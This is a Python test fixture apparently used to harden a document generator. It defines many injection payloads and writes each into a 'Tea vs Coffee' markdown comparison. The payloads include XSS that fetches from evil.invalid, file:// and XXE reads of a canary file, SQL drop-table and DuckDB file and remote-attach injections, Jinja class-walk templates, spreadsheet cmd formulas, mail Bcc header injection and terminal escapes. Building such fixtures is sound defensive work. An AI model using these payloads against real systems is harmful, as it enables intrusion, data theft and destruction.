"""Words that mean something to what they may pass through, each in every place.

`CANARY` is a file beside sources/ that no output may hold a byte of; `EVIL` is a host
that nothing may talk to.
"""

CANARY = "/CANARY/"  # replaced by the path of the file when documents are written
EVIL = "evil.invalid"
PRODUCT = "7345*1237"  # what a template engine would make 9085765 of
SUM = "9085765"

HTML = {
    "script": f'<script>fetch("http://{EVIL}/")</script>',
    "handler": "<img src=x onerror=alert(1)>",
    "breakout": "\"><svg/onload=alert(1)>'><b onclick=alert(1)>",
    "frame": f'<iframe src="file://{CANARY}"></iframe>',
    "base": f'<base href="http://{EVIL}/"><meta http-equiv=refresh content="0;url=//{EVIL}">',
    "form": f'<form action="http://{EVIL}/"><button autofocus onfocus=alert(1)>x',
    "object": f'<object data="file://{CANARY}"></object><embed src="file://{CANARY}">',
    "comment": "--><script>alert(1)</script><!--",
    "references": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "ends": "</td></table></main></body></html><script>alert(1)</script>",
    "raw": "</script></textarea></title></style><script>alert(1)</script>",
    "anchor": '<a id="claims" name="claims" href="#top">x</a>',
}
FILES = {
    "attachment": f'<a rel=attachment href="file://{CANARY}">x</a>',
    "link": f'<link rel=attachment href="file://{CANARY}">',
    "sheet": f'<link rel=stylesheet href="file://{CANARY}"><style>@import "file://{CANARY}";</style>',
    "image": f"<img src=file://{CANARY}> ![x](file://{CANARY})",
    "svg": f'<svg><image href="file://{CANARY}"/><use href="file://{CANARY}#a"/></svg>',
    "foreign": f'<svg><foreignObject><iframe src="http://{EVIL}/"></iframe></foreignObject></svg>',
    "entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{CANARY}">]><x>&e;</x>',
    "include": f'<?xml-stylesheet href="file://{CANARY}"?><xi:include href="file://{CANARY}"/>',
    "remote": f"![x](http://{EVIL}/t.gif) <video src=//{EVIL}/v poster=//{EVIL}/p>",
}
STYLE = {
    "css": f"</style><style>@import url(http://{EVIL}/x.css); * {{ display: none }}",
    "css_url": f'red; background: url("http://{EVIL}/b.png"); content: url(file://{CANARY})',
    "css_font": f'"; }} @font-face {{ font-family: "Source Sans 3"; src: url(file://{CANARY}) }}',
}
LINKS = {
    "javascript": "[click](javascript:alert(1)) <javascript:alert(1)>",
    "disguised": "[click](JaVa\tScRiPt:alert(1)) [x](&#106;avascript:alert(1))",
    "data": "[click](data:text/html,<script>alert(1)</script>)",
    "file": f"[click](file://{CANARY}) <file://{CANARY}> [x](//{EVIL}/)",
    "reference": f"[click][r] and ![x][r]\n\n[r]: file://{CANARY} 'title'",
}
SQL = {
    "drop": "'; drop table claims; --",
    "quote": '"; drop table options; --',
    "read_text": f"' || (select content from read_text('{CANARY}')) || '",
    "read_name": f"{CANARY}",
    "read_csv": f"read_csv_auto('{CANARY}')",
    "copy": "'; copy (select 1) to '/tmp/fwreport-hostile'; --",
    "attach": f"'; install httpfs; attach 'http://{EVIL}/x.db'; pragma database_list; --",
    "dollars": "$$ || getenv('HOME') || $$ ? $1 :name",
}
TEMPLATES = {
    "jinja": f"{{{{ {PRODUCT} }}}}",
    "jinja_block": f"{{% include '{CANARY}' %}}{{% for x in range(9**9) %}}x{{% endfor %}}",
    "jinja_class": "{{ ''.__class__.__mro__[1].__subclasses__() }}{# x #}",
    "format": f"{{0.__class__}} {{settings}} %(title)s %s%n ${{{PRODUCT}}} #{{{PRODUCT}}}",
    "backslash": r"\1 \g<0> \N{BULLET} \x00 \\ $& $1",
}
SHEETS = {
    "formula": "=cmd|'/c calc'!A0",
    "plus": "+1+cmd|'/c calc'!A0",
    "minus": "-2+3+cmd|'/c calc'!A0",
    "at": f'@HYPERLINK("http://{EVIL}/","x")',
    "separators": '"a","b";=1+1\t=1+1',
}
MAIL = {
    "bcc": f"x Bcc: victim@{EVIL}",
    "carriage": f"x\rBcc: victim@{EVIL}\r\rbody",
    "encoded": f"=?utf-8?q?x=0D=0ABcc:_victim@{EVIL}=0D=0A?=",
    "encoded_b": "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXZpbC5pbnZhbGlkDQo=?=",
    "dot": "x\n.\nQUIT\n",
    "breaks": f"x\u2028Bcc: victim@{EVIL}\u2029\x85\x0bBcc: y@{EVIL}",
}
TERMINAL = {
    "title_bar": "\x1b]0;owned\x07 \x1b[2J\x1b[1;1H all is well",
    "c1": "\x9b31m red \x9d0;owned\x9c",
    "hyperlink": f"\x1b]8;;http://{EVIL}/\x1b\\x\x1b]8;;\x1b\\",
    "overwrite": "good\b\b\b\bevil\x7f\r",
}
LETTERS = {
    "override": "\u202eeert si aet\u202c \u2066x\u2069 \u200f\u061c",
    "tags": "Tea\U000e0068\U000e0069 \u00ad\u200b\u2060\ufeff\u180e",
    "zalgo": "T" + "\u0301\u0489\u20dd" * 700 + "ea",
    "surrogates": "\ud800\udfff",
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0",
    "private": "\ue000999\ue001 `\ufdd00\ufdd1` \ufdd07\ufdd1",
    "null": "Tea\x00Coffee",
    "ligature": "\ufdfa" * 300,
    "family": "\U0001f468\u200d" * 500,
}
ATTACKS = HTML | FILES | STYLE | LINKS | SQL | TEMPLATES | SHEETS | MAIL
ATTACKS |= TERMINAL | LETTERS


EVERY = 8  # attack that is an option as well: forty options with ratings take minutes to score


def everywhere(words: str, is_option: bool) -> str:
    """A comparison that has the words as title, criterion, cell and prose.

    is_option  whether one of the things compared has them for its name
    """
    line = " ".join(words.split("\n")).replace("|", "\\|")
    option = line if is_option else "Coffee"
    return "\n".join(
        [
            f"# Tea vs Coffee: {line}",
            "",
            f"| Criterion | Tea | {option} | Winner |",
            "|---|---|---|---|",
            f"| Taste | {line} | plain words | {line} |",
            f"| {line} | {line} | plain words | |",
            f"| Price {line} | 9/10 {line} | ★★★ | {option} |" if is_option else "",
            "",
            f"## {line}",
            "",
            f"- **{line}:** Tea, and {option}.",
            f"- Use {line} for {line}.",
            "",
            f"```{line}",
            line,
            "```",
            "",
            f"**Tea**: {line}",
            "",
            words,
            "",
        ]
    )


def attack_documents() -> dict[str, bytes]:
    """{file name: content}: one document an attack."""
    return {
        f"attack-{name}.md": everywhere(words, number % EVERY == 0).encode(
            "utf-8", "surrogatepass"
        )
        for number, (name, words) in enumerate(ATTACKS.items())
    }
